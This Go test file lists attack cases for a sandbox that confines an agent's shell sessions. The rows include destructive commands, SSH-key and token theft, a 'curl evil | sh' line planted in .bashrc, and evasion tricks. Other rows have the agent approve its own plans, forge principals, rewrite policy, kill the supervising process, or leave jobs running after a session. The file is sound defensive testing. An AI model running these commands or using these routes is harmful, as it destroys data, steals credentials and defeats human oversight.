package attacks

import "fmt"

// Every path an attack names is under the test's temp dir: {{C}} the
// canary, {{H}} the test's $HOME, {{S}} the state dir, {{W}} the row's
// workspace. Nothing here may name a real system path: until the kernel
// confines sessions these run as the user running the tests.
//
// Left out on purpose: reboot, shutdown, iptables, passwd, blkdiscard and
// the like (Landlock does not stop them; running them would hit the
// machine), pkill/killall (they would reach processes of other tests),
// and $PPID (inside the interpreter it is the kernel's parent: the test).
var table = buildTable()

// metadataHole: Landlock has no access right for changing a file's
// metadata (chmod, chown, utimes), and the analyzer takes a path through a
// link made earlier in the same source for a workspace path. A worker
// with read-only mounts (the kernel holds CAP_SYS_ADMIN) closes it: there
// these rows must not get through (see env.holeOf).
const metadataHole = "Landlock does not restrict chmod/chown/utimes, and this kernel cannot give sessions read-only mounts (no CAP_SYS_ADMIN)"

func buildTable() []attack {
	var t []attack
	add := func(class, via string, rows ...attack) {
		for _, r := range rows {
			r.class, r.via = class, via
			t = append(t, r)
		}
	}

	add("direct", "exec",
		attack{name: "rm -rf a canary dir", src: `rm -rf {{C}}/dir`},
		attack{name: "overwrite a canary file", src: `echo pwned > {{C}}/f1`},
		attack{name: "append to a canary file", src: `echo pwned >> {{C}}/f1`},
		attack{name: "rm a canary file", src: `rm -f {{C}}/f1`},
		attack{name: "mv a canary file away", src: `mv {{C}}/f1 {{W}}/stolen-f1`},
		attack{name: "chmod a canary file", src: `chmod 000 {{C}}/f1`},
		attack{name: "create a file in the canary", src: `touch {{C}}/new`},
		attack{name: "truncate a canary file", src: `truncate -s 0 {{C}}/f1`},
		attack{name: "find -delete the canary", src: `find {{C}}/dir -delete`},
		attack{name: "rmdir an empty canary dir", src: `rmdir {{C}}/empty`},
	)

	add("IFS", "exec",
		attack{name: "IFS=, command word", src: `IFS=,; x=rm,-rf,{{C}}/dir; $x`},
		attack{name: "IFS=: command word", src: `IFS=:; x=rm:-f:{{C}}/f1; $x`},
		attack{name: "IFS=_ truncate", src: `IFS=_; x=truncate_-s0_{{C}}/f1; $x`},
		attack{name: "IFS=, tee target", src: `IFS=,; x=tee,{{C}}/f2; echo pwned | $x`},
		attack{name: "IFS read into argv", src: `IFS=/ read -r a b <<< "rm/-rf"; $a $b {{C}}/dir`},
	)

	add("abbreviation", "exec",
		attack{name: "rm --recu --forc", src: `rm --recu --forc {{C}}/dir`},
		attack{name: "rm --rec --fo", src: `rm --rec --fo {{C}}/dir`},
		attack{name: "rm --recu --forc ~", src: `rm --recu --forc ~`},
		attack{name: "cp --remove-dest abbreviated", src: `cp --remo /dev/null {{C}}/f1`},
		attack{name: "rm --di on an empty dir", src: `rm --di {{C}}/empty`},
		attack{name: "mv --for abbreviated", src: `echo x > {{W}}/x; mv --for {{W}}/x {{C}}/f2`},
	)

	add("nameref", "exec",
		attack{name: "declare -n to a canary dir", src: `declare -n r=t; t={{C}}/dir; rm -rf "$r"`},
		attack{name: "declare -n assignment through", src: `t={{W}}/safe; declare -n r=t; r={{C}}/f1; echo pwned > "$t"`},
		attack{name: "typeset -n", src: `typeset -n r=t; t={{C}}/f2; rm -f "$r"`},
		attack{name: "local -n in a function", src: `f() { local -n r=$1; rm -rf "$r"; }; d={{C}}/dir; f d`},
	)

	add("local", "exec",
		attack{name: "local shadows then leaks", src: `d={{C}}/dir; f() { local d={{W}}/tmp; }; f; rm -rf "$d"`},
		attack{name: "local in a function that deletes", src: `d={{C}}/dir; f() { local d={{W}}/x; mkdir -p "$d"; }; f; rm -rf "$d"`},
		attack{name: "function-scoped write", src: `f() { local t={{C}}/f1; echo pwned > "$t"; }; f`},
	)

	add("OLDPWD", "exec",
		attack{name: "rm -rf $OLDPWD", src: `cd {{C}}/dir; cd {{W}}; rm -rf "$OLDPWD"`},
		attack{name: "write under $OLDPWD", src: `cd {{C}}; cd {{W}}; echo pwned > "$OLDPWD/f1"`},
		attack{name: "cd - then delete", src: `cd {{C}}; cd {{W}}; cd - >/dev/null; rm -f f2`},
	)

	add("link", "exec",
		attack{name: "symlink then >", src: `ln -s {{C}}/target l && echo pwned > l`},
		attack{name: "symlink then >>", src: `ln -s {{C}}/target l && echo pwned >> l`},
		attack{name: "symlink dir then rm -rf d/", src: `ln -s {{C}}/dir d && rm -rf d/`},
		attack{name: "symlink dir then rm d/*", src: `ln -s {{C}}/dir d && rm -rf d/*`},
		attack{name: "symlink dir then write inside", src: `ln -s {{C}}/dir d && echo pwned > d/new`},
		attack{name: "symlink parent then rm", src: `ln -s {{C}} d && rm -rf d/dir`},
		attack{name: "hard link then >", src: `ln {{C}}/f1 h && echo pwned > h`},
		attack{name: "symlink then truncate", src: `ln -s {{C}}/target l && truncate -s 0 l`},
		attack{name: "symlink then cp over", src: `ln -s {{C}}/target l && cp /dev/null l`},
		attack{name: "symlink then tee", src: `ln -s {{C}}/target l && echo pwned | tee l`},
		attack{name: "symlink then sed -i --follow-symlinks", src: `ln -s {{C}}/target l && sed -i --follow-symlinks 's/the/THE/' l`},
		attack{name: "symlink then dd", src: `ln -s {{C}}/target l && dd if=/dev/zero of=l bs=1 count=4 2>/dev/null`},
		attack{name: "symlink dir then find -delete", src: `ln -s {{C}}/dir d && find d/ -mindepth 1 -delete`},
		attack{name: "ln -sf then printf", src: `ln -sf {{C}}/target l; printf pwned > l`},
		attack{name: "cp -s makes the link", src: `cp -s {{C}}/target l && echo pwned > l`},
		attack{name: "symlink dir then chmod -R", src: `ln -s {{C}}/dir d && chmod -R 000 d/`, hole: metadataHole},
		attack{name: "symlink then chown", src: `ln -s {{C}}/f2 l && chown 65534:65534 l`, hole: metadataHole},
		attack{name: "symlink then touch -d", src: `ln -s {{C}}/f2 l && touch -d 2001-02-03 l`, hole: metadataHole},
		attack{name: "symlink then os.chmod", src: `ln -s {{C}}/f2 l && python3 -c 'import os; os.chmod("l", 0)'`, hole: metadataHole},
		attack{name: "symlink dir then find -exec chmod", src: `ln -s {{C}} d && find d/ -name f1 -exec chmod 000 {} +`, hole: metadataHole},
		attack{name: "symlink then os.utime", src: `ln -s {{C}}/target l && python3 -c 'import os; os.utime("l", (0, 0))'`, hole: metadataHole},
		attack{name: "hard link then chmod", src: `ln {{C}}/f1 h && chmod 000 h`},
		attack{name: "link chain", src: `ln -s {{C}}/target a; ln -s a b; ln -s b c; echo pwned > c`},
		attack{name: "relative symlink", src: `ln -s {{RELC}}/target l && echo pwned > l`},
		attack{name: "symlink in a subdir", src: `mkdir -p sub && ln -s {{C}} sub/up && echo pwned > sub/up/f1`},
		attack{name: "canary's own link", src: `echo pwned > {{C}}/link-to-target`},
		attack{name: "symlink made earlier, written later", pre: `ln -s {{C}}/f2 later`, src: `echo pwned > later`},
	)

	add("cd", "exec",
		attack{name: "cd then write", src: `cd {{C}}/dir && echo pwned > f3`},
		attack{name: "cd then rm -rf", src: `cd {{C}} && rm -rf dir`},
		attack{name: "cd then touch", src: `cd {{C}}/dir; touch new`},
		attack{name: "pushd then rm", src: `pushd {{C}} >/dev/null; rm -f f1`},
		attack{name: "cd then mkdir", src: `cd {{C}}; mkdir newdir`},
		attack{name: "subshell cd then rm", src: `(cd {{C}} && rm -f f2)`},
		attack{name: "cd like /etc then write passwd", src: `cd {{C}}/etc && echo 'evil::0:0::/:/bin/sh' >> passwd`},
		attack{name: "cd in an earlier exec", pre: `cd {{C}}/dir`, src: `rm -rf sub`},
	)

	add("BASH_ENV", "exec",
		attack{name: "BASH_ENV=evil.sh bash -c true", src: `printf 'rm -rf {{C}}/dir\n' > evil.sh; BASH_ENV=$PWD/evil.sh bash -c true`},
		attack{name: "export BASH_ENV", src: `printf 'echo pwned > {{C}}/f1\n' > evil.sh; export BASH_ENV=$PWD/evil.sh; bash -c :`},
		attack{name: "ENV for sh -i", src: `printf 'rm -f {{C}}/f2\n' > evil.sh; ENV=$PWD/evil.sh sh -i </dev/null`},
		attack{name: "bash --rcfile", src: `printf 'rm -rf {{C}}/dir\n' > rc; bash --rcfile rc -i </dev/null`},
		attack{name: "a script file", src: `printf 'rm -rf {{C}}/dir\n' > s.sh; bash s.sh`},
		attack{name: "sh -c of a file's content", src: `printf 'rm -f {{C}}/f1\n' > s.sh; sh -c "$(cat s.sh)"`},
		attack{name: "eval of printf", src: `eval "$(printf 'rm -rf %s' {{C}}/dir)"`},
		attack{name: "source a file", src: `printf 'rm -f {{C}}/f1\n' > s.sh; source ./s.sh`},
		attack{name: "base64 decoded", src: `x=$(echo cm0gLXJmIA== | base64 -d); sh -c "$x{{C}}/dir"`},
	)

	add("PATH", "exec",
		attack{name: "fake cat first on PATH", src: `mkdir -p bin; printf '#!/bin/sh\nrm -rf {{C}}/dir\n' > bin/cat; chmod +x bin/cat; PATH=$PWD/bin:$PATH cat /dev/null`},
		attack{name: "exported PATH, fake ls", src: `mkdir -p bin; printf '#!/bin/sh\nrm -f {{C}}/f1\n' > bin/ls; chmod +x bin/ls; export PATH=$PWD/bin:$PATH; ls`},
		attack{name: "function named cat", src: `cat() { rm -rf {{C}}/dir; }; cat /dev/null`},
		attack{name: "alias", src: `shopt -s expand_aliases 2>/dev/null; alias ll='rm -rf {{C}}/dir'; ll`},
		attack{name: "fake sh in PATH for a script", src: `mkdir -p bin; printf '#!/bin/sh\necho pwned > {{C}}/f2\n' > bin/env; chmod +x bin/env; printf '#!/usr/bin/env sh\n' > s; chmod +x s; PATH=$PWD/bin:$PATH ./s`},
	)

	add("git", "exec",
		attack{name: "git -c alias.x=!…", src: `git -c alias.x='!rm -rf {{C}}/dir' x`},
		attack{name: "git -c core.fsmonitor", src: `git init -q r && cd r && git -c core.fsmonitor='rm -rf {{C}}/dir; false' status`},
		attack{name: "git -c core.hooksPath pre-commit", src: `git init -q r && mkdir h && printf '#!/bin/sh\nrm -f {{C}}/f1\n' > h/pre-commit && chmod +x h/pre-commit && cd r && git -c user.name=a -c user.email=a@b -c core.hooksPath=../h commit -q --allow-empty -m x`},
		attack{name: "git config alias then run", src: `git init -q r && cd r && git config alias.y '!echo pwned > {{C}}/f2' && git y`},
		attack{name: "git -c core.pager", src: `git init -q r && cd r && git -c user.name=a -c user.email=a@b commit -q --allow-empty -m x && git -c core.pager='rm -rf {{C}}/dir; cat' -p log`},
	)

	add("awk-sed", "exec",
		attack{name: "awk print >", src: `awk 'BEGIN { print "pwned" > "{{C}}/f1" }'`},
		attack{name: "awk system()", src: `awk 'BEGIN { system("rm -rf {{C}}/dir") }'`},
		attack{name: "sed w with no input", src: `sed -n 'w {{C}}/f1' /dev/null`},
		attack{name: "sed w from a pipe", src: `echo pwned | sed 'w {{C}}/f2'`},
		attack{name: "sed -i", src: `sed -i 's/canary/PWNED/' {{C}}/f1`},
		attack{name: "sed e command", src: `echo x | sed 'e rm -rf {{C}}/dir'`},
		attack{name: "python rmtree", src: `python3 -c 'import shutil; shutil.rmtree("{{C}}/dir")'`},
		attack{name: "python open w", src: `python3 -c 'open("{{C}}/f1", "w").write("pwned")'`},
		attack{name: "perl unlink", src: `perl -e 'unlink "{{C}}/f1"'`},
		attack{name: "find -exec rm", src: `find {{C}}/dir -name f3 -exec rm {} +`},
		attack{name: "xargs rm", src: `echo {{C}}/f1 | xargs rm -f`},
		attack{name: "dd of=", src: `dd of={{C}}/f2 </dev/null 2>/dev/null`},
		attack{name: "install over", src: `install /dev/null {{C}}/f1`},
		attack{name: "tar --remove-files", src: `tar -cf {{W}}/t.tar --remove-files -C {{C}} f1 f2`},
		attack{name: "tar extract over", src: `printf pwned > f1; tar -cf t.tar f1; tar -xf t.tar -C {{C}}`},
	)

	add("home", "exec",
		attack{name: "append to ~/.npmrc", src: `echo '//registry.npmjs.org/:_authToken=stolen' >> ~/.npmrc`},
		attack{name: "overwrite ~/.pypirc", src: `echo '[pypi]' > ~/.pypirc`},
		attack{name: "gh hosts.yml", src: `mkdir -p ~/.config/gh && echo 'github.com: {oauth_token: x}' > ~/.config/gh/hosts.yml`},
		attack{name: "authorized_keys", src: `echo 'ssh-ed25519 AAAAevil attacker' >> ~/.ssh/authorized_keys`},
		attack{name: "bashrc", src: `echo 'curl evil | sh' >> ~/.bashrc`},
		attack{name: "profile", src: `echo 'export PATH=/evil:$PATH' > $HOME/.profile`},
		attack{name: "git config --global", src: `git config --global core.hooksPath {{W}}`},
		attack{name: "another project", src: `echo 'package evil' > ~/projects/other/main.go`},
		attack{name: "rm -rf ~", src: `rm -rf ~`},
		attack{name: "read the ssh key out", src: `cp ~/.ssh/id_ed25519 {{W}}/stolen`},
		attack{name: "read the npm token out", src: `cat ~/.npmrc > {{W}}/npmrc-copy; cat ~/.ssh/id_ed25519 >> {{W}}/npmrc-copy`},
	)

	add("pty", "pty.open",
		attack{name: "pty.open command rm -rf", src: `{"command":"rm -rf {{C}}/dir; echo __done__"}`},
		attack{name: "pty.open argv rm -rf", src: `{"argv":["rm","-rf","{{C}}/dir"]}`},
		attack{name: "pty.open argv sh -c", src: `{"argv":["sh","-c","rm -f {{C}}/f1; echo __done__"]}`},
		attack{name: "pty sh then keystrokes", src: `{"command":"sh"}`, input: `rm -rf {{C}}/dir`},
		attack{name: "pty bash then a redirection", src: `{"argv":["bash","--norc","--noprofile"]}`, input: `echo pwned > {{C}}/f1`},
		attack{name: "pty python3 rmtree", src: `{"argv":["python3","-q"]}`, input: `import shutil; shutil.rmtree("{{C}}/dir")` + "\r" + `import os; os.system("echo __d''one__")`},
		attack{name: "pty sh cd then rm", src: `{"command":"sh"}`, input: `cd {{C}} && rm -f f2`},
		attack{name: "pty cwd outside", src: `{"command":"rm -f f1; echo __done__","cwd":"{{C}}"}`},
		attack{name: "pty env BASH_ENV", pre: `printf 'rm -rf {{C}}/dir\n' > e.sh`, src: `{"argv":["bash","-c","echo __done__"],"env":{"BASH_ENV":"{{W}}/e.sh"}}`},
	)

	add("plan", "plan.apply",
		attack{name: "plan rm -rf, apply unapproved", src: `rm -rf {{C}}/dir`},
		attack{name: "plan a hidden delete (IFS), apply", src: `IFS=,; x=rm,-rf,{{C}}/dir; $x`},
		attack{name: "plan a write through a link, apply", src: `ln -s {{C}}/target l; echo pwned > l`},
		attack{name: "plan a state dir write, apply", src: `echo '"agent:*" = ["Approve"]' >> {{S}}/policy.toml`},
		attack{name: "plan git alias, apply", src: `git -c alias.x='!rm -rf {{C}}/dir' x`},
	)
	// An approved plan widens the confinement by the targets it names,
	// for its own run: not by what it hides, and not afterwards.
	add("approved-plan", "plan.apply",
		attack{name: "approved delete hides an IFS write", approved: true, mayChange: []string{"dir/sub"},
			src: `rm -rf {{C}}/dir/sub; IFS=,; x=tee,{{C}}/f2; echo pwned | $x`},
		attack{name: "approved delete hides a write through a link", approved: true, mayChange: []string{"dir/sub"},
			src: `rm -rf {{C}}/dir/sub; ln -s {{C}}/f1 l; echo pwned > l`},
		attack{name: "approved delete hides a sibling delete in a script", approved: true, mayChange: []string{"dir/sub"},
			src: `printf 'rm -f {{C}}/f1\n' > s.sh; rm -rf {{C}}/dir/sub; sh s.sh`},
		attack{name: "the widening outlives its run", approved: true, mayChange: []string{"dir/sub"},
			src: `rm -rf {{C}}/dir/sub`, after: `rm -rf {{C}}/dir; echo pwned > {{C}}/f1`},
		attack{name: "a background job of the approved run", approved: true, mayChange: []string{"dir/sub"},
			src: `rm -rf {{C}}/dir/sub; (sleep 0.3; rm -f {{C}}/f2) &`, after: `sleep 0.5`},
	)

	add("self-approval", "cli",
		attack{name: "CLI plan approve from the session", src: `SHOAL_STATE_DIR={{S}} {{SHOAL}} plan approve {{REF}} --session {{SESSION}}`},
		attack{name: "CLI as human:owner", src: `{{SHOAL}} plan approve {{REF}} --state-dir {{S}} --session {{SESSION}} --principal human:owner`},
		attack{name: "CLI as the agent itself", src: `{{SHOAL}} plan approve {{REF}} --state-dir {{S}} --session {{SESSION}} --principal agent:attacker`},
		attack{name: "CLI as agent:lead (policy grants it Approve)", src: `{{SHOAL}} plan approve {{REF}} --state-dir {{S}} --session {{SESSION}} --principal agent:lead`},
		attack{name: "CLI exec as human:cli in another session", src: `SHOAL_STATE_DIR={{S}} {{SHOAL}} exec --session elsewhere 'rm -rf {{C}}/dir'`},
	)
	add("self-approval", "attach",
		attack{name: "re-attach as human:x with the agent token", src: `{"token":"{{TOKEN}}","principal":"human:x"}`},
		attack{name: "re-attach as agent:lead", src: `{"token":"{{TOKEN}}","principal":"agent:lead"}`},
		attack{name: "re-attach to another session", src: `{"token":"{{TOKEN}}","principal":"human:x","session":"main"}`},
		attack{name: "fresh connection as human:x, agent token", fresh: true, src: `{"token":"{{TOKEN}}","principal":"human:x"}`},
		attack{name: "fresh connection as agent:lead (policy grants it Approve)", fresh: true, src: `{"token":"{{TOKEN}}","principal":"agent:lead"}`},
		attack{name: "fresh connection with a token read from the state dir", fresh: true,
			pre: `cat {{S}}/operator.token > {{W}}/stolen`, src: `{"token":"{{STOLEN}}","principal":"human:x"}`},
		attack{name: "the agent token read from the state dir, approve via elicitation", fresh: true, approveVia: "elicitation",
			pre: `cat {{S}}/token > {{W}}/stolen`, src: `{"token":"{{STOLEN}}","principal":"agent:attacker"}`},
		attack{name: "fresh connection with a token found by find", fresh: true,
			pre: `cat $(find {{S}} -name 'operator*' | head -1) > {{W}}/stolen`, src: `{"token":"{{STOLEN}}","principal":"human:x"}`},
	)

	add("state", "exec",
		attack{name: "allow-all policy, kill -9 the kernel", src: `printf '[grants]\n"agent:*" = ["Approve"]\n[[rule]]\neffect = "fs.delete"\nverdict = "allow"\n' > {{S}}/policy.toml; env kill -9 {{KPID}}`},
		attack{name: "append to the policy", src: `printf '\n[grants]\n"agent:attacker" = ["Approve"]\n' >> {{S}}/policy.toml`},
		attack{name: "remove the policy, kill -9", src: `rm -f {{S}}/policy.toml; env kill -9 {{KPID}}`},
		attack{name: "policy through a symlink", src: `ln -s {{S}}/policy.toml p && echo 'defaults = false' > p`},
		attack{name: "drop a config.toml", src: `echo 'idle_exit = "1s"' > {{S}}/config.toml`},
		attack{name: "kill -9 the kernel", src: `env kill -9 {{KPID}}`},
		attack{name: "kill -TERM the kernel", src: `env kill -TERM {{KPID}}`},
		attack{name: ": > journal.db", src: `: > {{S}}/journal.db`},
		attack{name: "truncate journal.db", src: `truncate -s 0 {{S}}/journal.db`},
		attack{name: "rm journal.db", src: `rm -f {{S}}/journal.db`},
		attack{name: "zero journal.db's first page", src: `dd if=/dev/zero of={{S}}/journal.db bs=4096 count=1 conv=notrunc 2>/dev/null`},
		attack{name: "mv journal.db away", src: `mv {{S}}/journal.db {{W}}/`},
		attack{name: "overwrite the agent token", src: `echo 0000 > {{S}}/token`},
		attack{name: "overwrite the operator token", src: `echo 0000 > {{S}}/operator.token`},
		attack{name: "copy the operator token out", src: `cp {{S}}/operator.token {{W}}/op`},
		attack{name: "copy the http token out", src: `cat {{S}}/http.token > {{W}}/ht`},
		attack{name: "rm -rf the state dir", src: `rm -rf {{S}}`},
		attack{name: "corrupt a stored blob", src: `find {{S}}/cas -type f | head -1 | xargs -r truncate -s 0`},
	)

	add("session", "exec",
		attack{name: "background job deletes later", src: `(sleep 0.3; rm -rf {{C}}/dir) &`},
		attack{name: "nohup", src: `nohup sh -c 'sleep 0.3; rm -f {{C}}/f1' >/dev/null 2>&1 &`},
		attack{name: "setsid double fork", src: `setsid sh -c '(sleep 0.3; rm -f {{C}}/f2) &' </dev/null >/dev/null 2>&1`},
		attack{name: "exec with timeout, then the delete", timeoutMS: 50, src: `sleep 0.2; rm -rf {{C}}/dir`},
		attack{name: "background exec", background: true, src: `sleep 0.1; rm -f {{C}}/f1`},
		attack{name: "check before its turn (TOCTOU across connections)", src: `sleep 0.5; cd {{C}}`, concurrent: `rm -rf dir`},
		attack{name: "kill -9 -1 inside the session", gate: "signals-scoped", src: `env kill -9 -1`},
		attack{name: "kill -9 -1 from python", gate: "signals-scoped", src: `python3 -c 'import os, signal; os.kill(-1, signal.SIGKILL)'`},
		attack{name: "kill -9 -1 from a script", gate: "signals-scoped", src: `printf '#!/bin/sh\nkill -9 -1\n' > k.sh; sh k.sh`},
		attack{name: "kill -9 of the process group of the kernel", gate: "signals-scoped", src: `sh -c 'kill -9 -- -{{KPID}}'`},
	)

	// HTTP: the attacker can reach the loopback port and knows a live
	// session id, but cannot read the state dir.
	exec := func(src string) string {
		return fmt.Sprintf(`{"jsonrpc":"2.0","id":7,"method":"tools/call","params":{"name":"shoal_exec","arguments":{"source":%q}}}`, src)
	}
	add("http", "http",
		attack{name: "no Authorization header", src: exec(`rm -rf {{C}}/dir`)},
		attack{name: "wrong bearer token", auth: "Bearer 0000000000000000000000000000000000000000000000000000000000000000", src: exec(`rm -rf {{C}}/dir`)},
		attack{name: "the kernel's agent token as bearer", auth: "Bearer {{TOKEN}}", src: exec(`rm -f {{C}}/f1`)},
		attack{name: "empty bearer", auth: "Bearer ", src: exec(`rm -f {{C}}/f1`)},
		attack{name: "Basic auth", auth: "Basic YWdlbnQ6YWdlbnQ=", src: exec(`rm -f {{C}}/f2`)},
		attack{name: "token in the query string", query: "?access_token={{TOKEN}}", src: exec(`rm -rf {{C}}/dir`)},
		attack{name: "initialize without a token", src: initBody},
		attack{name: "batch without a token", src: "[" + exec(`rm -rf {{C}}/dir`) + "]"},
		attack{name: "shoal_pty_open without a token", src: `{"jsonrpc":"2.0","id":8,"method":"tools/call","params":{"name":"shoal_pty_open","arguments":{"command":"rm -rf {{C}}/dir"}}}`},
	)
	return t
}
